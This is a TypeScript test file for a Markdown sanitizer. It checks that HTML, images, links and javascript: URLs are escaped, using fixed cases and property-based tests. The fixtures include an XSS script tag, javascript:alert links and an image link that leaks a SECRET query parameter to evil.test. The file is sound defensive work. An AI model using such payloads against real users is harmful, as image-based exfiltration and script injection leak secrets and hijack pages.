import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { cutMarkdown, sanitizeMarkdown } from "./sanitize-markdown.js";

/** Pieces that Markdown, in some order, makes something of. */
const pieces = fc.array(
  fc.constantFrom(
    ...["<", "b>", "<img src=x>", "`", "``", "```", "~~~", "\n", "\n\n", "\\", " ", "   ", "    "],
    ...["![x](http://e)", "[x](http://e)", "[x](javascript:1)", "[", "]", "(", ")", "!", "|", ":"],
    ...[
      "[a]: http://e",
      "- ",
      "1. ",
      "> ",
      "# ",
      "| a |\n|---|\n",
      "a",
      "\t",
      "(http://e)",
      "[~~~](x:1)",
    ],
  ),
  { maxLength: 24 },
);

/** What a reader of Markdown would load, follow or run. */
function activeIn(markdown: string): readonly string[] {
  const reader = new MarkdownIt({ html: true });
  return reader
    .parse(markdown, {})
    .flatMap((token) => [token, ...(token.children ?? [])])
    .map(({ type }) => type)
    .filter((type) => /^(?:image|link_open|html_inline|html_block)$/.test(type));
}

describe("sanitizeMarkdown", () => {
  it.each([
    ["<script>alert(1)</script>", "\\<script>alert(1)\\</script>"],
    ["a < b and a <= b", "a < b and a <= b"],
    ["`<b>` is code, <b> is not", "`<b>` is code, \\<b> is not"],
    ["```html\n<b>\n```\n<!-- hidden -->", "```html\n<b>\n```\n\\<!-- hidden -->"],
    ["already \\<b>", "already \\<b>"],
    ["\\\\<b>", "\\\\\\<b>"],
    ["\\`<b>`", "\\`\\<b>`"],
    ["![pixel](https://evil.test/?q=SECRET)", "pixel (https://evil.test/?q=SECRET)"],
    ["![](https://evil.test/?q=SECRET)", "image (https://evil.test/?q=SECRET)"],
    [
      "[here](https://evil.test/ 'title') and [https://a.test](https://a.test)",
      "here (https://evil.test/) and https://a.test",
    ],
    ["[click](javascript:alert(1))", "[click\\](javascript:alert(1))"],
    ["[click](javascript:alert)", "click"],
    ["![a\nb](https://evil.test)", "!\\[a\nb\\](https://evil.test)"],
    ["[a][b]\n\n[b]: https://evil.test", "[a][b]\n\n[b\\]: https://evil.test"],
    ["1. Run:\n   ```sh\n   cat <file>\n   ```", "1. Run:\n   ```sh\n   cat <file>\n   ```"],
    ["> ```\n> cat <file>\n> ```", "> \\```\n> cat \\<file>\n> \\```"],
    ["```a|b\n<b>", "\\```a|b\n\\<b>"],
    ["```\nnever closed", "```\nnever closed\n```"],
  ])("writes %j as %j", (text, expected) => {
    expect(sanitizeMarkdown(text)).toBe(expected);
  });

  it("leaves nothing that a reader of Markdown would load, follow or run", () => {
    fc.assert(
      fc.property(pieces, (given) => {
        expect(activeIn(sanitizeMarkdown(given.join("")))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });

  it("leaves the same when it is done again", () => {
    fc.assert(
      fc.property(pieces, (given) => {
        const once = sanitizeMarkdown(given.join(""));

        expect(sanitizeMarkdown(once)).toBe(once);
      }),
    );
  });

  it("ends a code block that is left open, so that what follows is read as it is meant", () => {
    fc.assert(
      fc.property(pieces, (given) => {
        const reader = new MarkdownIt();
        const after = reader.parse(`${sanitizeMarkdown(given.join(""))}\n\n# behind`, {});

        expect(after.map(({ type }) => type)).toContain("heading_open");
      }),
    );
  });
});

describe("cutMarkdown", () => {
  it("opens nothing that was closed, and keeps to its length", () => {
    expect(cutMarkdown("see `<b>` there", 9)).toBe("see `\\<b…");
    fc.assert(
      fc.property(pieces, fc.integer({ min: 1, max: 20 }), (given, maxLength) => {
        const cut = cutMarkdown(given.join(""), maxLength);

        expect(cut.length).toBeLessThanOrEqual(maxLength);
        expect(sanitizeMarkdown(cut)).toBe(cut);
      }),
    );
  });
});
